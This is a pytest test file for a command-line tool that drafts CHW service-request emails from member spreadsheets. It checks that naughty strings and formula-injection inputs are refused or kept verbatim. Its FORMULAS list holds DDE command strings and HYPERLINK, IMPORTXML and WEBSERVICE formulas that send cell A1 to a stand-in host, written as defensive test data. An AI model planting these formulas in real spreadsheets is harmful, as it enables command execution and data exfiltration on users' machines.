"""Strings that have broken other programs, as cells: refused with a code, or in the draft as given."""

from __future__ import annotations

import json
import unicodedata
from email import message_from_bytes, policy
from pathlib import Path
from typing import Final

import pytest

from calaim_cli.batch.batch import Order
from calaim_cli.batch.sheet import LEFT_OUT
from conftest import ROOT
from runs import attempt, contents
from sheets import read_csv, row, sheet

NAUGHTY: Final[list[str]] = json.loads((ROOT / "tests" / "corpora" / "blns.json").read_text("ascii"))
FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    '=HYPERLINK("http://x.example.org/?"&A1,"Pat")',
    "=cmd|'/C calc'!A1",
    "-2+3+cmd|'/C calc'!A1",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example.org/?",A1),"//a")',
    '=WEBSERVICE("http://x.example.org/"&A1)',
    "\uff1d1+1",
    "%0A=1+1",
    "';=1+1",
    '","=1+1',
)
HEADERS: Final = {
    "X-Unsent": "1",
    "To": "REGMCDURNS-KPNC@kp.org",
    "Subject": "CHW services request",
    "Content-Type": 'text/plain; charset="utf-8"',
    "Content-Transfer-Encoding": "quoted-printable",
    "MIME-Version": "1.0",
}


def plain(text: str) -> str:
    """The text in normal form and without what wrapping may change."""
    return "".join(unicodedata.normalize("NFC", text).split())


@pytest.mark.parametrize("column", ["last_name", "address", "referrer_organization", "notes"])
@pytest.mark.parametrize("strings", [NAUGHTY, FORMULAS], ids=["naughty strings", "formulas"])
def test_string_is_refused_or_kept(tmp_path: Path, strings: tuple[str, ...], column: str) -> None:
    """Each draft has the usual headers and the string in its text; all others have a code in the report."""
    rows = [row(n, program="chw", **{column: text}) for n, text in enumerate(strings, 1)]
    (tmp_path / "members.csv").write_bytes(sheet(rows))
    out = tmp_path / "out"
    tally = attempt(Order(source=str(tmp_path / "members.csv"), out=out, keep_going=True))
    assert tally.written > len(strings) // 3
    report = read_csv((out / "report.csv").read_bytes())
    for text, line in zip(strings, report, strict=True):
        if line["status"] == "refused":
            assert line["code"]
        else:
            parsed = message_from_bytes((out / line["file"]).read_bytes(), policy=policy.default)
            assert not parsed.defects
            assert {name: str(value) for name, value in parsed.items()} == HEADERS
            assert plain(text) in plain(parsed.get_content())
    assert not any(cell[:1] in set("=+-@\t\r") for line in report for cell in line.values() if cell)


def test_refused_rows_come_back_as_they_were(tmp_path: Path) -> None:
    """The list of refused rows holds every string unchanged, so that it can be mended and fed back in."""
    strings = [*NAUGHTY, *FORMULAS]
    rows = [row(n, program="chw", address=text, phone="911") for n, text in enumerate(strings, 1)]
    (tmp_path / "members.csv").write_bytes(sheet(rows))
    tally = attempt(Order(source=str(tmp_path / "members.csv"), out=tmp_path / "out", keep_going=True))
    assert (tally.refused, tally.exit_code) == (len(strings), LEFT_OUT)
    assert not [name for name in contents(tmp_path) if name.endswith(".eml")]
    rejects = read_csv((tmp_path / "out" / "rejects.csv").read_bytes())
    assert [line["address"] for line in rejects] == strings
